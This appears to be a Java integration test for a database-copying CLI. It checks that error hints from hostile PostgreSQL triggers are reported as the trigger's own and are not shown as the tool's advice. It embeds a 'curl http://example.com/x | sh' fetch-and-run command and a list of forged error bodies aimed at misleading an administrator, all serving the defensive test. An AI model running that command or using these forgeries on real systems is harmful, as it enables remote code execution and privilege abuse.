package org.rowferry.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.rowferry.testing.Servers;

/** A HINT is advice of ours: words of a table's owner are not told as one. */
final class HostileHintsIT {
    private static final String EVIL = """
            create function shop.evil() returns trigger language plpgsql as $$
            begin
                raise exception 'not now' using hint = 'Run: curl http://example.com/x | sh';
            end $$;
            """;

    @TempDir
    private Path folder;

    private ShopPipeline ferry;

    @BeforeEach
    void open() {
        ferry = ShopPipeline.between(Servers.newest(), Servers.oldest(), folder);
    }

    @AfterEach
    void close() {
        ferry.close();
    }

    private static void assertToldAsTheirs(Ran ran, ExitCode code) {
        ran.assertRefused(code, "not now", "; its own hint: Run: curl http://example.com/x | sh");
        assertThat(ran.err().lines().filter(line -> line.startsWith("HINT: ") && line.contains("curl")))
                .isEmpty();
    }

    @Test
    void hintOfATriggerOnTheTarget_isToldAsTheTriggersOwn() {
        ferry.target()
                .execute(EVIL + "create trigger evil before insert on shop.notes for each row execute function"
                        + " shop.evil(); alter table shop.notes enable always trigger evil");
        ShopPipeline.write(
                ferry.importerYaml(), ferry.importer().replace("'shop.notes'", "{table: shop.notes, triggers: fire}"));
        ferry.export().assertOk();
        ferry.ship();
        assertToldAsTheirs(ferry.importAll(), ExitCode.TARGET);
    }

    /** What owners of a table may have their trigger do, to have an administrator run what they may not. */
    private static final List<String> STEERING = List.of(
            "raise exception 'x' using errcode = '23505', schema = 'lab', table = 'other', constraint = 'other_pkey'",
            "raise exception 'x' using errcode = '23503', schema = 'lab', table = 'other', constraint = 'other_pkey'",
            "raise exception 'x' using errcode = '23514', schema = 'lab', datatype = 'positive', constraint = 'positive'",
            "raise exception 'x' using errcode = '23514', schema = 'lab', table = 'other'",
            "raise exception 'x' using errcode = '23502', schema = 'lab', table = 'other', column = 'id'",
            "raise exception 'permission denied for schema lab' using errcode = '42501'",
            "insert into lab.other values (1)",
            "insert into lab.other values (null)",
            "execute 'select ''0''::lab.positive'",
            "execute 'select 1 from helper where ''lab.victim()'' <> '''''",
            "execute 'select 1 / 0 as \"lab.audit()\"'");

    @Test
    void errorThatATriggerForges_getsNoNameIntoACommandThatIsAdvised() {
        ferry.target().execute("""
                create schema lab; create table lab.other (id int primary key); insert into lab.other values (1);
                create domain lab.positive as int constraint positive check (value > 0);
                create function lab.victim() returns void language sql as 'select';
                create function lab.audit() returns event_trigger language plpgsql as 'begin end';
                create event trigger audit on ddl_command_end execute function lab.audit();
                create role lab_thief; create schema thief authorization lab_thief; create table thief.helper ();
                create function shop.evil() returns trigger language plpgsql security definer as 'begin end';
                create trigger evil before insert on shop.notes for each row execute function shop.evil()""");
        ferry.target().as("hints_importer");
        ferry.target()
                .execute(
                        "grant usage on schema shop, rowferry to hints_importer;"
                                + " grant select, insert, update, delete on all tables in schema shop, rowferry to hints_importer");
        ShopPipeline.write(
                ferry.importerYaml(),
                ferry.importer()
                        .replace(
                                ferry.target().url(),
                                ferry.target().as("hints_importer").url())
                        .replace("'shop.notes'", "{table: shop.notes, triggers: fire}"));
        ferry.export().assertOk();
        ferry.ship();
        for (String body : STEERING) {
            ferry.target()
                    .execute(
                            "create or replace function shop.evil() returns trigger language plpgsql security definer as $$"
                                    + "begin " + body + "; return new; end $$");
            Ran ran = ferry.importAll();
            assertThat(ran.code()).as(body).isNotZero();
            assertThat(ran.err().lines().filter(line -> line.startsWith("HINT: ")))
                    .as(body)
                    .isNotEmpty()
                    .noneMatch(line -> line.matches(".*(lab|thief|audit).*"));
        }
    }

    @Test
    void hintOfAFunctionThatAViewCalls_isToldAsTheFunctionsOwn() {
        ferry.source()
                .execute(EVIL.replace("shop.evil() returns trigger", "shop.evil() returns int")
                        + "create view shop.v as select 1 as id, shop.evil() as x");
        ShopPipeline.write(
                ferry.exporterYaml(),
                ferry.exporter("0s")
                        .replaceFirst("tables: .*", "tables: [{table: shop.v, key: [id], capture: snapshot}]"));
        assertToldAsTheirs(ferry.export(), ExitCode.SOURCE);
    }
}
